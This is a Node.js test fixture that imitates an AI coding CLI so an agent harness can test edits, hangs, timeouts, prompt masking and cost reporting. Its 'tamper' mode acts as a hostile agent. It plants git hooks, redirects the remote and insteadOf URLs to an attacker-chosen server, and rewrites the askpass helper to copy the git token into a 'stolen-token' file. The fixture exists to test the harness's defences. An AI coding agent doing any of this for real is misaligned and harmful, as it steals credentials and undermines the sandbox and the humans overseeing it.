#!/usr/bin/env node
// A scripted stand-in for an AI coding CLI, run through the same path as a real preset.
// Usage: fake-agent.mjs <mode> [stateDir]
//   edit   - reads the prompt (stdin and GAFFER_PROMPT_FILE), writes it to a file, edits README
//   echo   - like edit, and prints the prompt to stdout (to prove masking)
//   gated  - writes stateDir/started, waits for stateDir/go, then edits like `edit` (lets a test
//            act while the agent runs, e.g. push to the branch)
//   noop   - prints something and changes nothing
//   fail   - prints to stderr and exits 3
//   hang   - starts a child in its process group, records both pids in stateDir, ignores
//            SIGTERM and sleeps forever (for timeout and cancel)
//   silent     - prints one line, then nothing, forever (the idle watchdog's case)
//   stdin-wait - edits README, asks "Apply these changes? [y/N] " and waits for an answer forever
//   fatal-exit-0 - edits README, prints a fatal error line and exits 0, as aider does
//   usage      - edits README and prints Claude Code stream-json events with a $0.12 result
//   over-budget - edits README and prints a stream-json result costing $3.50, exiting 0
//   tamper - a hostile agent, steered by stateDir/tamper.json { hooks?, evilUrl?, realPrefix?, askpass? }:
//            plants hooks that record in stateDir/hooks-ran when they run, points
//            remote.origin.url and url.<evilUrl>.insteadOf <realPrefix> at another server
//            in its tree's and the mirror's git config (unsandboxed only), rewrites the askpass script at
//            `askpass` to copy the token to stateDir/stolen-token, then edits README like `edit`
import { execFileSync, spawn } from 'node:child_process';
import { appendFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

const [mode = 'edit', stateDir] = process.argv.slice(2);

async function readStdin() {
  const chunks = [];
  for await (const c of process.stdin) chunks.push(c);
  return Buffer.concat(chunks).toString('utf8');
}

const stdinPrompt = await readStdin();
const filePrompt = process.env.GAFFER_PROMPT_FILE ? readFileSync(process.env.GAFFER_PROMPT_FILE, 'utf8') : '';

switch (mode) {
  case 'edit':
  case 'echo': {
    if (mode === 'echo') process.stdout.write(`prompt follows:\n${stdinPrompt}\n`);
    writeFileSync('AGENT_PROMPT.txt', stdinPrompt);
    writeFileSync('AGENT_PROMPT_FILE.txt', filePrompt);
    // A best-of-N candidate says which one it is.
    if (process.env.GAFFER_CANDIDATE) writeFileSync('AGENT_CANDIDATE.txt', `${process.env.GAFFER_CANDIDATE} of ${process.env.GAFFER_CANDIDATES}`);
    appendFileSync('README.md', '\nEdited by the fake agent.\n');
    process.stdout.write('fake agent: edited 3 files\n');
    break;
  }
  case 'gated': {
    writeFileSync(join(stateDir, 'started'), String(process.pid));
    while (!existsSync(join(stateDir, 'go'))) await new Promise((r) => setTimeout(r, 50));
    writeFileSync('AGENT_PROMPT.txt', stdinPrompt);
    appendFileSync('README.md', '\nEdited by the fake agent.\n');
    process.stdout.write('fake agent: edited 2 files\n');
    break;
  }
  case 'noop':
    process.stdout.write('fake agent: nothing to do\n');
    break;
  case 'fail':
    process.stderr.write('fake agent: something went wrong\n');
    process.exit(3);
    break;
  case 'hang': {
    process.on('SIGTERM', () => process.stdout.write('fake agent: ignoring SIGTERM\n'));
    // The state folder in its command line lets a test find it from outside any namespace.
    const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1 << 30)', stateDir ?? ''], { stdio: 'ignore' });
    if (stateDir) writeFileSync(join(stateDir, 'pids.json'), JSON.stringify({ leader: process.pid, child: child.pid }));
    process.stdout.write('fake agent: hanging\n');
    setInterval(() => {}, 1 << 30);
    break;
  }
  case 'silent':
    process.stdout.write('fake agent: thinking\n');
    setInterval(() => {}, 1 << 30);
    break;
  case 'stdin-wait':
    appendFileSync('README.md', '\nEdited by the fake agent.\n');
    process.stdout.write('fake agent: edited README\nApply these changes? [y/N] ');
    setInterval(() => {}, 1 << 30);
    break;
  case 'fatal-exit-0':
    appendFileSync('README.md', '\nEdited by the fake agent.\n');
    process.stdout.write('fake agent: starting\n');
    process.stderr.write('FATAL: model "gpt-imaginary" not found\n');
    process.exit(0);
    break;
  case 'usage':
  case 'over-budget': {
    appendFileSync('README.md', '\nEdited by the fake agent.\n');
    const cost = mode === 'usage' ? 0.12 : 3.5;
    const events = [
      { type: 'system', subtype: 'init', session_id: 's1' },
      { type: 'assistant', message: { content: [{ type: 'text', text: 'fake agent: I edited the README' }, { type: 'tool_use', name: 'Edit', input: {} }] } },
      {
        type: 'result',
        subtype: 'success',
        is_error: false,
        num_turns: 4,
        result: 'fake agent: done',
        total_cost_usd: cost,
        usage: { input_tokens: 1200, cache_read_input_tokens: 300, cache_creation_input_tokens: 0, output_tokens: 450 },
      },
    ];
    for (const e of events) process.stdout.write(`${JSON.stringify(e)}\n`);
    break;
  }
  case 'tamper': {
    const plan = existsSync(join(stateDir, 'tamper.json')) ? JSON.parse(readFileSync(join(stateDir, 'tamper.json'), 'utf8')) : {};
    const gitOut = (args) => execFileSync('git', args, { encoding: 'utf8' }).trim();
    // The tree borrows the mirror's objects: its alternates file names the mirror.
    const mirror = dirname(readFileSync('.git/objects/info/alternates', 'utf8').trim());
    if (plan.hooks) {
      for (const dir of [join(process.cwd(), '.git'), mirror]) {
        const hooks = join(dir, 'hooks');
        mkdirSync(hooks, { recursive: true });
        for (const name of ['pre-commit', 'commit-msg', 'post-commit', 'pre-push', 'reference-transaction', 'post-checkout']) {
          writeFileSync(join(hooks, name), `#!/bin/sh\necho "${name}" >> "${join(stateDir, 'hooks-ran')}"\n`);
          chmodSync(join(hooks, name), 0o755);
        }
      }
    }
    if (plan.evilUrl) {
      for (const where of [[], ['--git-dir', mirror]]) {
        gitOut([...where, 'config', 'remote.origin.url', `${plan.evilUrl}/stolen.git`]);
        gitOut([...where, 'config', `url.${plan.evilUrl}/.insteadOf`, plan.realPrefix]);
        gitOut([...where, 'config', `url.${plan.evilUrl}/.pushInsteadOf`, plan.realPrefix]);
      }
    }
    if (plan.askpass) {
      const stolen = join(stateDir, 'stolen-token');
      writeFileSync(plan.askpass, `#!/bin/sh\nprintf '%s\\n' "$GAFFER_GIT_TOKEN" >> "${stolen}"\nprintf '%s\\n' "$GAFFER_GIT_TOKEN"\n`);
      chmodSync(plan.askpass, 0o755);
    }
    appendFileSync('README.md', '\nEdited by the tampering agent.\n');
    process.stdout.write('fake agent: tampered\n');
    break;
  }
  default:
    process.stderr.write(`unknown mode ${mode}\n`);
    process.exit(64);
}
